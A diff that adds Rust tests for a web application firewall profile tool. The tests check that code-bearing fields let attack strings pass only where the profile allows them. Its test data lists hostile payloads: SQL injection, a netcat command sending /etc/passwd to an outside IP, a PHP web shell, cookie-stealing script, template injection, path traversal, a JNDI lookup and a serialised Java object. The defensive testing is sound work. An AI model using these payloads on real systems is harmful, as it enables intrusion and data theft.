@@ -64,6 +64,122 @@ fn every_profile_says_what_it_lets_pass() {
     );
 }
 
+/// The rules of the languages that a field may carry are those of the CRS for their subject: a rule of a
+/// newer release that no language has is found here.
+#[test]
+fn languages_have_the_rules_of_the_crs() {
+    // Shellshock, names of uploaded files and serialised objects are no text of a language.
+    const OTHERS: [u32; 4] = [932_170, 932_171, 932_180, 933_170];
+    const FAMILIES: [u32; 4] = [932, 933, 941, 942];
+    let folder = portcullis_testkit::crs::rules().expect("run make crs");
+    let profile = Profile::from_toml(CARRIES_ALL).unwrap();
+    let carried = profile.fields().next().unwrap().all_rules;
+    let mut seen = 0;
+    for entry in std::fs::read_dir(folder.join("rules")).unwrap() {
+        let path = entry.unwrap().path();
+        if path.extension().is_none_or(|extension| extension != "conf") {
+            continue;
+        }
+        let text = std::fs::read_to_string(path).unwrap();
+        let ids = text.split("\"id:").skip(1).filter_map(|rest| rest.get(..6)?.parse::<u32>().ok());
+        // Below 100 stand the rules that skip the file at other paranoia levels.
+        for id in ids.filter(|id| FAMILIES.contains(&(id / 1000)) && id % 1000 >= 100) {
+            assert_eq!(carried.contains(&id), !OTHERS.contains(&id), "{id}");
+            seen += 1;
+        }
+    }
+    assert!(seen > 100, "{seen}");
+}
+
+const CARRIES_ALL: &str = r#"
+name = "mine"
+application = "Mine"
+about = "an editor"
+versions = "1"
+version = 1
+
+[[change]]
+version = 1
+what = "first"
+
+[[field]]
+location = "json:content"
+target = "ARGS:content"
+carries = ["markup", "program", "sql", "templates"]
+paths = ["/files/"]
+reason = "the editor of files stores programs as they are"
+opens = "programs of all sorts in files, by anyone who may edit"
+lets_pass = ["code", "command", "path", "sqli", "ssi", "template", "xss"]
+
+[[request]]
+what = "save a file"
+method = "PUT"
+uri = "/files/a"
+type = "application/json"
+body = '{"name":"a","content":VALUE}'
+value = "x"
+"#;
+
+/// Whatever mixture of code a field carries passes there; what no language has is stopped there, and all of
+/// it in the fields beside it and on other paths.
+#[test]
+fn a_field_that_carries_code_opens_for_mixtures_and_nothing_else() {
+    let profile = Profile::from_toml(CARRIES_ALL).unwrap();
+    let folder = tempfile::tempdir().unwrap();
+    let ask = |profile: &str, requests: &[Vec<u8>]| {
+        let (file, path) = (folder.path().join("mine.toml"), folder.path().join("work.jsonl"));
+        let line = |bytes: &Vec<u8>| json!({ "request": String::from_utf8_lossy(bytes) }).to_string();
+        std::fs::write(&path, requests.iter().map(line).collect::<Vec<_>>().join("\n")).unwrap();
+        std::fs::write(&file, profile).unwrap();
+        let (file, path) = (file.to_str().unwrap(), path.to_str().unwrap());
+        let (_, text) = run(&["test", file, "--requests", path, "--mode", "semantic"]);
+        let line = text.lines().find(|line| line.contains("  semantic: of ")).unwrap();
+        // `  semantic: of 42 requests 41 refused without the profile, 0 with it`
+        let numbers = line.split(' ').filter_map(|word| word.parse::<usize>().ok());
+        numbers.skip(1).collect::<Vec<_>>()
+    };
+    let pieces = [
+        "x' OR 1=1 UNION SELECT password FROM users --",
+        "; cat /etc/passwd | nc 203.0.113.9 80",
+        "<?php system($_GET['c']); ?>",
+        "<script>fetch('//a.example/' + document.cookie)</script>",
+        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+        "../../../../etc/shadow",
+    ];
+    let mut texts: Vec<String> = pieces.map(str::to_owned).to_vec();
+    for (first, second) in pieces.iter().flat_map(|first| pieces.map(|second| (first, second))) {
+        texts.push(format!("{first}\n{second}"));
+    }
+    let of = |text: &str| profile.requests[0].bytes("", Some(text));
+    let requests: Vec<_> = texts.iter().map(|text| of(text)).collect();
+    let known = texts.len() - 1;
+    let refused = ask(CARRIES_ALL, &requests);
+    assert!(refused[0] >= known && refused[1] == 0, "mixtures pass where they belong: {refused:?}");
+    let beside: Vec<_> = pieces
+        .iter()
+        .map(|text| {
+            let body = json!({ "name": text, "content": "x" }).to_string();
+            let head = "PUT /files/a HTTP/1.1\r\nHost: app.example\r\nContent-Type: application/json";
+            format!("{head}\r\nContent-Length: {}\r\n\r\n{body}", body.len()).into_bytes()
+        })
+        .collect();
+    assert_eq!(ask(CARRIES_ALL, &beside), [6, 6], "the field beside it is inspected");
+    let elsewhere: Vec<_> = requests
+        .iter()
+        .map(|bytes| String::from_utf8_lossy(bytes).replace("PUT /files/a", "PUT /users/a").into_bytes())
+        .collect();
+    assert_eq!(ask(CARRIES_ALL, &elsewhere), [refused[0]; 2], "so is the same field of another path");
+    let severe: Vec<_> =
+        ["${jndi:ldap://a.example/x}", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4Kx"]
+            .iter()
+            .flat_map(|severe| texts.iter().map(move |text| of(&format!("{text}\n{severe}"))))
+            .collect();
+    assert_eq!(ask(CARRIES_ALL, &severe), [severe.len(); 2], "no code hides a lookup or an object");
+    let fewer = CARRIES_ALL.replace("\"program\", \"sql\"", "\"sql\"");
+    let of_programs: Vec<_> = pieces[1..3].iter().map(|text| of(text)).collect();
+    assert_eq!(ask(&fewer, &of_programs), [2, 2], "a language that is not named stays closed");
+}
+
 /// A profile that says less or more of what passes is found.
 #[test]
 fn a_profile_that_hides_what_passes_is_found() {
